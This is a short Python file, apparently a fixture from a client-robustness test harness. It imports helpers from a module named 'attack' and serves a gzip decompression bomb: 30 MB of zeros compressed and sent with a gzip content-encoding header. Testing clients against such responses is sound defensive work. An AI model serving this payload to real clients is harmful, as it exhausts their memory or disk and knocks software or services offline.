import gzip

from attack import instead_of_generate, reply

BOMB = gzip.compress(bytes(30_000_000), 1, mtime=0)  # the same bytes at each start


async def answer(send):
    await reply(send, BOMB, headers=[(b"content-encoding", b"gzip")])


app = instead_of_generate(answer)
